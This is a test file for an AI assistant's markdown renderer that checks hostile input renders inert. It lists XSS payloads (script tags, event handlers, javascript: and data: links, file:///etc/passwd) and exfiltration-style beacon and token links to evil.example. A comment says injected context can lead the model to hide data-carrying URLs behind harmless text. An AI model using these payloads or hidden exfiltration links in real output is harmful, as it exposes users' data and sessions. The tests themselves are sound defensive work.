import assert from 'node:assert/strict';
import { test } from 'node:test';
import { renderMarkdown } from '../src/markdown';

// Every tag and attribute the renderer may emit; anything else means raw HTML got through.
const TAGS = new Set(
  'p a em strong code pre div span button ul ol li h1 h2 h3 h4 h5 h6 blockquote hr br table thead tbody tr th td s del'.split(' '),
);
const ATTRS = new Set(['href', 'target', 'rel', 'class', 'type', 'data-aa-copy', 'title', 'style', 'start']);
const SAFE_HREF = /^(https?:|mailto:|#|\/(?![/\\])|\.{1,2}\/)/i;

function decode(s: string): string {
  return s
    .replace(/&quot;/g, '"')
    .replace(/&#(\d+);/g, (_m, n: string) => String.fromCharCode(Number(n)))
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
}

function assertSafe(html: string, input: string): void {
  const tagRe = /<\/?([a-zA-Z][\w-]*)([^>]*)>/g;
  let m: RegExpExecArray | null;
  while ((m = tagRe.exec(html))) {
    const [, name, rest] = m;
    assert.ok(TAGS.has(name.toLowerCase()), `tag <${name}> from ${JSON.stringify(input)}: ${html}`);
    const attrRe = /([^\s=]+)(?:="([^"]*)")?/g;
    let a: RegExpExecArray | null;
    while ((a = attrRe.exec(rest))) {
      const attr = a[1].toLowerCase();
      if (attr === '/') continue;
      assert.ok(ATTRS.has(attr), `attribute ${attr} from ${JSON.stringify(input)}: ${html}`);
      if (attr === 'href') assert.match(decode(a[2] ?? '').trim(), SAFE_HREF, `href from ${JSON.stringify(input)}`);
      if (attr === 'style') assert.match(a[2] ?? '', /^text-align:(left|right|center)$/);
    }
  }
  // Hostile text may still appear, escaped, as text between tags (that is harmless); it must
  // never be inside a tag.
  for (const tag of html.match(/<[^>]*>/g) ?? []) assert.doesNotMatch(decode(tag), /script:|on\w+=/i, tag);
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror="alert(1)">',
  '<svg onload=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](java\tscript:alert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](file:///etc/passwd)',
  '[click](//evil.example/x)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/beacon.png?secret=1)',
  '```"><script>alert(1)</script>\ncode\n```',
  '```js onload=alert(1)\nx\n```',
  '    <script>indented</script>',
  '`<script>inline</script>`',
  '<div onclick="alert(1)">x</div>',
  '<style>body{display:none}</style>',
  '| a | b |\n|:-|-:|\n| <b onmouseover=alert(1)>x</b> | y |',
  '[x]: javascript:alert(1)\n\n[ref][x]',
  '<details open ontoggle=alert(1)>',
  '<form action="https://evil.example"><input name=q></form>',
];

for (const input of HOSTILE) {
  test(`hostile markdown stays inert: ${JSON.stringify(input).slice(0, 60)}`, () => {
    assertSafe(renderMarkdown(input), input);
  });
}

test('raw HTML is shown as text, not dropped', () => {
  const html = renderMarkdown('before <script>alert(1)</script> after');
  assert.match(html, /&lt;script&gt;alert\(1\)&lt;\/script&gt;/);
});

test('images become links to a safe URL, never <img>', () => {
  const html = renderMarkdown('![diagram](https://example.com/d.png)');
  assert.doesNotMatch(html, /<img/);
  assert.match(html, /<a href="https:\/\/example.com\/d.png" target="_blank" rel="noopener noreferrer nofollow">diagram<\/a><span class="aa-link-host"> \(example.com\)<\/span>/);
});

test('every link with its own text shows the host it leads to', () => {
  // Hostile context can steer the model into hiding a URL (with data in it) behind harmless words.
  const html = renderMarkdown('See [the Argo CD docs](https://evil.example:8443/c?d=token) and [this](HTTPS://x.example/).');
  assert.match(html, /the Argo CD docs<\/a><span class="aa-link-host"> \(evil.example:8443\)<\/span>/);
  assert.match(html, /this<\/a><span class="aa-link-host"> \(x.example\)<\/span>/);
});

test('bare URLs, relative links and mail links get no host note', () => {
  for (const text of ['https://argo-cd.readthedocs.io/en/stable/', '<https://a.example/x>', '[app](/applications/x)', '[m](mailto:a@b.example)', '[up](../x)']) {
    assert.doesNotMatch(renderMarkdown(text), /aa-link-host/, text);
  }
});

test('protocol-relative and dot-less relative-looking links are refused', () => {
  for (const text of ['[x](//evil.example/x)', '[x](///evil.example)']) {
    assert.doesNotMatch(renderMarkdown(text), /<a /, text);
  }
  // markdown-it percent-encodes the backslash browsers would read as a slash: a path, not a host.
  assert.match(renderMarkdown('[x](/\\evil.example)'), /href="\/%5Cevil\.example"/);
  assert.match(renderMarkdown('[ok](./x)'), /<a href="\.\/x"/);
});

test('safe links open in a new tab without an opener', () => {
  const html = renderMarkdown('see [docs](https://argo-cd.readthedocs.io/)');
  assert.match(html, /<a href="https:\/\/argo-cd.readthedocs.io\/" target="_blank" rel="noopener noreferrer nofollow">docs<\/a>/);
});

test('fenced code gets a copy button and an escaped language class', () => {
  const html = renderMarkdown('```yaml\nkind: Pod\nmetadata: {name: "<x>"}\n```');
  assert.match(html, /data-aa-copy="1"/);
  assert.match(html, /<code class="language-yaml">kind: Pod\nmetadata: \{name: &quot;&lt;x&gt;&quot;\}\n<\/code>/);
});

test('ordinary markdown renders', () => {
  const html = renderMarkdown('# Title\n\n- **bold** and `code`\n1. one\n\n> quote');
  assert.match(html, /<h1>Title<\/h1>/);
  assert.match(html, /<strong>bold<\/strong>/);
  assert.match(html, /<code>code<\/code>/);
  assert.match(html, /<blockquote>/);
});
